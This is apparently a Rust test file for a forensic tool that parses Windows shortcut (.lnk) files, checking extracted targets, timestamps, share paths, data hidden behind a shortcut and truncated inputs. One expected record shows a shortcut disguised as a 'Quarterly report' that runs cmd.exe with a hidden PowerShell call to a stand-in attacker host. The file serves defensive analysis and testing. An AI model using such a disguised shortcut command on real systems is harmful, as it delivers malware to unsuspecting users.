//! Shortcuts that another program wrote (tests/samples).

use belljar::identify;
use belljar::model::ArtifactKind::Shortcut;

use crate::mutation::survive;
use crate::parts::decoded;
use crate::samples::sample;

#[test]
fn a_shortcut_tells_target_arguments_and_times() {
    let bytes = sample("shortcut/local.lnk");
    assert_eq!(identify::identify(&bytes, true).kind, Shortcut);
    let all = decoded(Shortcut, &bytes, bytes.len());
    assert!(all.diagnostics.is_empty(), "{:?}", all.diagnostics);
    assert_eq!(
        all.records[0].text,
        r"TargetCreated=2020-12-16T10:00:00Z TargetAccessed=2020-12-16T10:00:00Z TargetModified=2020-12-16T10:00:00Z TargetSize=4711 Target=C:\Windows\System32\cmd.exe Description=Quarterly report WorkingDir=C:\Users\Public Arguments=/c powershell -w hidden http://evil.example/a IconLocation=C:\Windows\System32\shell32.dll"
    );
    assert_eq!(all.records[0].time.map(|time| time.to_string()).as_deref(), Some("2020-12-16T10:00:00Z"));
    // The list of items holds the target's short names.
    assert_eq!(all.members.len(), 1);
    assert!(memchr::memmem::find(&all.members[0].bytes, b"System32").is_some());
}

#[test]
fn a_shortcut_to_a_share_tells_the_share() {
    let all = decoded(Shortcut, &sample("shortcut/share.lnk"), 7);
    assert!(all.diagnostics.is_empty(), "{:?}", all.diagnostics);
    let text = &all.records[0].text;
    // The program that wrote it leads past the rest of the path.
    assert!(memchr::memmem::find(&all.members[0].bytes, br"tools\run.exe").is_some());
    assert!(text.contains(r"Target=\\192.0.2.7\SHARE "), "{text}");
    assert!(text.contains(r"TargetVariable=\\192.0.2.7\share\tools\run.exe"), "{text}");
}

#[test]
fn what_stands_behind_a_shortcut_is_a_member() {
    let bytes = [sample("shortcut/local.lnk"), vec![0; 4], b"<script>run()</script>".to_vec()].concat();
    let all = decoded(Shortcut, &bytes, 100);
    let behind = all.members.last().expect("a member");
    assert_eq!(behind.name, "behind the shortcut");
    assert!(behind.bytes.ends_with(b"<script>run()</script>"));
}

#[test]
fn every_prefix_is_read_as_far_as_it_goes() {
    for name in ["shortcut/local.lnk", "shortcut/share.lnk"] {
        let bytes = sample(name);
        for length in 0..bytes.len() {
            let all = decoded(Shortcut, &bytes[..length], length.max(1));
            assert!(!all.diagnostics.is_empty(), "{name}: {length}");
            assert_eq!(decoded(Shortcut, &bytes[..length], 7), all, "{name}: {length}");
        }
        survive(Shortcut, &bytes, 3_000, 1 << 20);
    }
}
